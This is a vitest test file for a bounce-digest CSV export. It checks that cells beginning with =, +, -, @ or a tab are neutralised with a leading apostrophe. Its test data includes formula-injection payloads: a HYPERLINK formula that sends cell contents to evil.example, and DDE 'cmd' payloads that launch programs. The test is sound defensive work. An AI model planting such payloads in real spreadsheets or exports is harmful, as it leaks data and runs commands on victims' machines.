import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { hardBouncesCsv } from '../../../shared/digest/email';
import { type Digest, definitions } from '../../../shared/digest/model';

const digestWith = (addresses: Digest['hard_bounced_addresses']): Digest => ({
  date: '2026-11-20',
  timezone: 'UTC',
  window: { start: '2026-11-20T00:00:00.000Z', end: '2026-11-21T00:00:00.000Z' },
  generated_at: '2026-11-21T06:00:00.000Z',
  socketlabs: { servers: [] },
  sendsage: { campaigns: [] },
  alerts: [],
  intraday: [],
  hard_bounced_total: addresses.length,
  hard_bounced_addresses: addresses,
  unreadable_files: [],
  definitions,
});

const cells = (csv: string) =>
  Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.map((r) => [
    r.address,
    r.reason,
  ]);

describe('hardBouncesCsv: formula injection', () => {
  // Addresses and reasons come from remote mail servers and from whoever typed the address: a spreadsheet that
  // opens the attachment must show them as text, never run them.
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click to unsubscribe")', 'equals sign'],
    ['+1-555-0100@example.com', 'plus sign'],
    ["-2+3+cmd|' /C calc'!A0", 'minus sign'],
    ["@SUM(1+1)*cmd|' /C calc'!A0", 'at sign'],
    ['\t=1+1', 'tab'],
  ])('neutralises a cell starting like %j (%s) with a leading apostrophe, in address and reason', (value) => {
    const csv = hardBouncesCsv(digestWith([{ server_id: 1234, address: value, code: 2001, reason: value }]));
    expect(cells(csv)).toEqual([[`'${value}`, `'${value}`]]);
    // Every data line's cells start with a quote or a digit: nothing a spreadsheet evaluates.
    for (const line of csv.trimEnd().split('\r\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('leaves ordinary addresses and reasons as they are', () => {
    const csv = hardBouncesCsv(
      digestWith([
        { server_id: 1234, address: 'alice@example.com', code: 2001, reason: '550 5.1.1 user unknown' },
        { server_id: 1234, address: 'o-neil@example.net', code: null, reason: '' },
      ]),
    );
    expect(cells(csv)).toEqual([
      ['alice@example.com', '550 5.1.1 user unknown'],
      ['o-neil@example.net', ''],
    ]);
  });
});
